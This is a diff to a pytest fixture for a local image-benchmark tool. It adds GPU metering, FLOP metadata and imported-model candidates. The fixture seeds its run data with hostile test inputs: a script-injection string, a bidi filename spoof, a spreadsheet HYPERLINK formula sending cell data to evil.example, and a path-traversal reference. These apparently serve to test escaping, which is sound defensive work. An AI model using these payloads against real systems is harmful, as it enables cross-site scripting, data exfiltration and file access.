@@ -11,7 +11,7 @@ from PIL import Image
 from local_bench.core.identity import digest
 from local_bench.core.images import store_image
 from local_bench.core.nouns import Task
-from local_bench.runs.config import JudgeConfig, ModelConfig, RunConfig, SettlementConfig
+from local_bench.runs.config import ImportedConfig, JudgeConfig, ModelConfig, RunConfig, SettlementConfig
 from local_bench.runs.rundir import RunDir
 
 SCRIPT = "<script>alert(1)</script>"
@@ -21,6 +21,8 @@ BIDI = "evil\u202egnp.exe\u2066\u200b\x07\x00"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 REASON = f"the answer was cut off {SCRIPT}"
 HOUR_USD = "1.80"
+H100 = "NVIDIA H100 80GB HBM3"
+ELSEWHERE = "some-api"
 MakeRun = Callable[..., Path]
 
 
@@ -48,15 +50,24 @@ class Writer:
         self.write("INSERT INTO tasks VALUES (?, ?, ?, ?, ?, ?)", *row)
 
     def candidate(
-        self, task: Task, deliverable: int, model: str, state: str = "done", reason: str | None = None
+        self,
+        task: Task,
+        deliverable: int,
+        model: str,
+        state: str = "done",
+        reason: str | None = None,
+        cost_micro_usd: int | None = None,
+        work_too: dict[str, object] | None = None,
     ) -> str:
-        work = {"task": task.task_id, "deliverable": deliverable, "model": model}
+        work = {"task": task.task_id, "deliverable": deliverable, "model": model} | (work_too or {})
         work_id = digest(work)
+        done, elsewhere = state == "done", model == ELSEWHERE
+        made_here = (4, json.dumps({"clip": 3 * deliverable, "t5": 0})) if done and not elsewhere else (None, None)
         self.position += 1
         colour = tuple(int(work_id[i : i + 2], 16) for i in (0, 2, 4))
         sha = store_image(self.run.images, Image.new("RGB", (320, 240), colour)) if state == "done" else None
         self.write(
-            "INSERT INTO candidates VALUES (?, ?, ?, ?, ?, 1, ?, ?, 7, 240, 320, ?, ?, ?, ?)",
+            "INSERT INTO candidates VALUES (?, ?, ?, ?, ?, 1, ?, ?, 7, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
             *(
                 work_id,
                 self.position,
@@ -66,7 +77,8 @@ class Writer:
                 f"{task.title}. {task.brief}",
                 json.dumps(work),
             ),
-            *(state, None if sha is None else digest({"work": work_id}), sha, reason),
+            *((None, None) if elsewhere else (240, 320)),
+            *(state, None if sha is None else digest({"work": work_id}), sha, reason, *made_here, cost_micro_usd),
         )
         return work_id
 
@@ -90,14 +102,23 @@ class Writer:
             "INSERT INTO verdicts VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)", work_id, rubric, point, *ids, text, reason, raw
         )
 
-    def meter(self, rows: list[tuple[str, str | None, int, int, int | None]]) -> None:
-        """(phase, model, held ns, items, millijoules) one after the other, as one session on the CPU."""
+    def meter(self, rows: list[tuple[str, str | None, int, int, int | None]], device: str = "cpu") -> None:
+        """(phase, model, held ns, items, millijoules) one after the other, as one more session on `device`."""
         held_ns = sum(row[2] for row in rows)
-        self.write("INSERT INTO sessions VALUES (1, '2026-01-02T03:04:05+00:00', 'cpu', ?, 'done')", held_ns)
+        number = self.run.ledger.rows("SELECT count(*) + 1 AS n FROM sessions")[0]["n"]
+        begun = (number, "2026-01-02T03:04:05+00:00", device, held_ns, "done")
+        self.write("INSERT INTO sessions VALUES (?, ?, ?, ?, ?)", *begun)
         at = 0
         for phase, model, ns, items, energy in rows:
-            self.write("INSERT INTO meter VALUES (1, ?, ?, ?, ?, ?, ?)", at, at + ns, phase, model, items, energy)
+            row = (number, at, at + ns, phase, model, items, energy)
+            self.write("INSERT INTO meter VALUES (?, ?, ?, ?, ?, ?, ?)", *row)
             at += ns
+
+    def operations(self, model: str, flop: int, planned_batch_size: int = 4, **more: object) -> None:
+        """What one picture of any kind takes; as many at once were planned."""
+        one = {"flop": flop, "least_flop": flop, "planned_batch_size": planned_batch_size}
+        kinds = dict.fromkeys(("240x320", "240x320+same"), one)
+        self.run.ledger.set_meta(f"operations:{model}", json.dumps({"kinds": kinds} | more))
 
 
 @pytest.fixture
@@ -106,7 +127,8 @@ def make_run(tmp_path: Path) -> MakeRun:
 
     Two models, two orders of 35 and 100 dollars with one and two images. `alpha` gets everything accepted and `beta`
     nothing; of `beta` the last image is unscored (`gap`) or has not been made (`planned`). With `no_source`, a third
-    order of 15 dollars cannot be carried out.
+    order of 15 dollars cannot be carried out. With `on_gpus`, the pictures were made on two of them, those of `beta`
+    with a step cache, and `some-api` made the first order's picture elsewhere.
     """
 
     def make(
@@ -116,18 +138,19 @@ def make_run(tmp_path: Path) -> MakeRun:
         no_source: bool = False,
         price: str | None = HOUR_USD,
         coverage_min: float = 0.98,
+        on_gpus: bool = False,
     ) -> Path:
         path = tmp_path / "run"
         config = RunConfig(
             name="hostile",
             seed=7,
-            models=[ModelConfig(card="alpha"), ModelConfig(card="beta")],
+            models=[ModelConfig(card="alpha"), ModelConfig(card="beta"), *([IMPORTED] if on_gpus else [])],
             judge=JudgeConfig(card="gamma"),
             metrics=["piqe"],
             settlement=SettlementConfig(usd_per_hour=price, coverage_min=coverage_min),
         )
         with RunDir.begin(path, config) as run, run.ledger.transaction():
-            _fill(Writer(run), gap, planned)
+            _fill(Writer(run), gap, planned, on_gpus)
             if no_source:
                 _impossible(Writer(run))
         (path / "provenance.json").write_text(json.dumps({"python": "3.11", "packages": {SCRIPT: [1, 2, BIDI]}}))
@@ -136,7 +159,10 @@ def make_run(tmp_path: Path) -> MakeRun:
     return make
 
 
-def _fill(to: Writer, gap: bool, planned: bool) -> None:
+IMPORTED = ModelConfig(card="imported", name=ELSEWHERE, imported=ImportedConfig(images="made"))
+
+
+def _fill(to: Writer, gap: bool, planned: bool, on_gpus: bool) -> None:
     source = store_image(to.run.inputs, Image.new("RGB", (400, 100), (200, 30, 30)))
     given = {"source_sha256": source, "reference_sha256": ("../" * 20 + "etc/x",)}
     orders = [
@@ -155,6 +181,9 @@ def _fill(to: Writer, gap: bool, planned: bool) -> None:
                     to.candidate(task, i, model, "planned")
                 else:
                     _judged(to, to.candidate(task, i, model), model, open_=last and gap)
+    if on_gpus:
+        _on_gpus(to, orders[0])
+        return
     to.meter(
         [
             ("load", "alpha", 2_000_000_000, 0, None),
@@ -164,6 +193,22 @@ def _fill(to: Writer, gap: bool, planned: bool) -> None:
             ("idle", None, 1_000_000, 0, None),
         ]
     )
+
+
+def _on_gpus(to: Writer, first: Task) -> None:
+    """Three pictures of `alpha` in 4.4 s each, two on one device and one on the other; three of `beta` in 2 s each."""
+    s = 1_000_000_000
+    at_500_w = 500_000  # millijoules a second
+    one = [("load", "alpha", 20, 0), ("warm-up", "alpha", 10, 0), ("encode", "alpha", 1, 3)]
+    one += [("denoise", "alpha", 8, 2), ("decode", "alpha", 0.8, 2)]
+    one += [("load", "beta", 20, 0), ("denoise", "beta", 5.7, 3), ("decode", "beta", 0.3, 3)]
+    two = [("load", "alpha", 20, 0), ("denoise", "alpha", 4, 1), ("decode", "alpha", 0.4, 1)]
+    for rows in (one, two):
+        to.meter([(phase, model, int(t * s), n, int(t * at_500_w)) for phase, model, t, n in rows], H100)
+    to.operations("alpha", 2_100_000_000_000_000)
+    to.operations("beta", 2_100_000_000_000_000, uncounted="no floor: its cache skips work")
+    work = {"model": {"imported": ELSEWHERE}, "pixels": "0" * 64}
+    to.decision(to.candidate(first, 1, ELSEWHERE, cost_micro_usd=137_406, work_too=work), accepted=True)
 
 
 def _impossible(to: Writer) -> None:
